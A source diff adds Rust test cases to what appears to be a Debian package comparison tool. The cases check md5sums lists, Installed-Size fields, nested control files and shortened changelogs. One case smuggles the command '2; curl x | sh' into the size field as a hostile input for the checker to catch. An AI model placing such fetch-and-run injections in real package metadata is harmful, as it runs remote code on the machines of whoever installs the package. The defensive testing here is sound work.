@@ -44,6 +44,7 @@ fn with(mut entries: Vec<TarEntry>, more: TarEntry) -> Vec<TarEntry> {
 
 pub fn cases(out: &mut Vec<Case>) {
     debs(&mut Cases { name: "app_1.0_amd64.deb", out });
+    lists(&mut Cases { name: "app_1.0_amd64.deb", out });
     libraries(&mut Cases { name: "libapp.a", out });
     wheels(&mut Cases { name: "app-1.0-py3-none-any.whl", out });
 }
@@ -191,6 +192,111 @@ fn debs(c: &mut Cases<'_>) {
         Expect::Explained(&["timestamp"]),
         packed(9, 1_700_000_000),
         packed(9, 0),
+    );
+}
+
+/// What a package says of its own files.
+fn lists(c: &mut Cases<'_>) {
+    use md5::Digest;
+    let sum = |content: &[u8], path: &str| {
+        let digest: String = md5::Md5::digest(content).iter().map(|byte| format!("{byte:02x}")).collect();
+        format!("{digest}  {path}\n")
+    };
+    let readme = |day: u8| format!("Built 2026-01-0{day}.\n").into_bytes();
+    let path = "usr/share/doc/app/README.txt";
+    let files = |day: u8| {
+        vec![
+            file("./usr/bin/app", b"\x7fprogram").with(|e| e.mode = *b"0000755\0"),
+            file(&format!("./{path}"), &readme(day)),
+        ]
+    };
+    let right = |day: u8| sum(b"\x7fprogram", "usr/bin/app") + &sum(&readme(day), path);
+    let package = |size: &str, list: &str, day: u8| {
+        let control = format!("Package: app\nInstalled-Size: {size}\nArchitecture: all\n");
+        deb(&[file("./control", control.as_bytes()), file("./md5sums", list.as_bytes())], &files(day))
+    };
+    let plain = || package("2", &right(2), 2);
+    c.add(
+        "deb-md5sums-follow",
+        "A date in a document differs, and the list of digests with it.",
+        Expect::Explained(&["timestamp-in-text"]),
+        package("2", &right(1), 1),
+        plain(),
+    );
+    c.bad(
+        "deb-md5sums-wrong",
+        "The list gives a digest that no file has.",
+        package("2", &right(3), 1),
+        plain(),
+    );
+    c.bad(
+        "deb-md5sums-omits",
+        "The list omits the program.",
+        package("2", &sum(&readme(1), path), 1),
+        plain(),
+    );
+    c.bad(
+        "deb-md5sums-twice",
+        "The list gives a file twice.",
+        package("2", &(right(1) + &sum(&readme(1), path)), 1),
+        plain(),
+    );
+    c.bad(
+        "deb-md5sums-adds",
+        "The list gives a file that is not there.",
+        package("2", &(right(1) + &sum(PAYLOAD, "usr/bin/x")), 1),
+        plain(),
+    );
+    c.bad(
+        "deb-md5sums-note",
+        "The list holds more than digests.",
+        package("2", &(right(1) + "# note\n"), 1),
+        plain(),
+    );
+    c.bad(
+        "deb-installed-size",
+        "The stated size differs, and no file does.",
+        package("7", &right(2), 2),
+        plain(),
+    );
+    c.bad(
+        "deb-installed-size-command",
+        "What stands in the place of the size is no number.",
+        package("2; curl x | sh", &right(1), 1),
+        plain(),
+    );
+    let nested = |size: &str| {
+        let inner = tar(&[file("./control", format!("Installed-Size: {size}\n").as_bytes())]);
+        deb(&[file("./control", b"Package: app\n"), file("./inner.tar", &inner)], &files(1))
+    };
+    c.bad("deb-nested-control", "A description inside the description differs.", nested("3"), nested("4"));
+    let log = |text: &str| {
+        let path = "./usr/share/doc/app/changelog.Debian";
+        deb(&[file("./control", b"Package: app\n")], &[file(path, text.as_bytes())])
+    };
+    let entry = |version: u8| {
+        format!("app ({version}) unstable\n\n  * Change.\n\n -- A <a@b.c>  Thu, 02 Mar 2023\n\n")
+    };
+    c.bad(
+        "deb-changelog-cut",
+        "Entries of the change log are missing, and it does not say so.",
+        log(&entry(2)),
+        log(&(entry(2) + &entry(1))),
+    );
+    let removed = "# Older entries have been removed from this changelog.\n\
+                   # To read the complete changelog use `apt changelog app`.\n";
+    c.bad(
+        "deb-changelog-tail",
+        "More follows where the change log says that it was shortened.",
+        log(&(entry(2) + removed + "payload\n")),
+        log(&(entry(2) + &entry(1))),
+    );
+    c.add(
+        "deb-changelog-trimmed",
+        "The packaging tool shortened the change log, and says so.",
+        Expect::Explained(&["changelog-trim"]),
+        log(&(entry(2) + &entry(1))),
+        log(&(entry(2) + removed)),
     );
 }
 
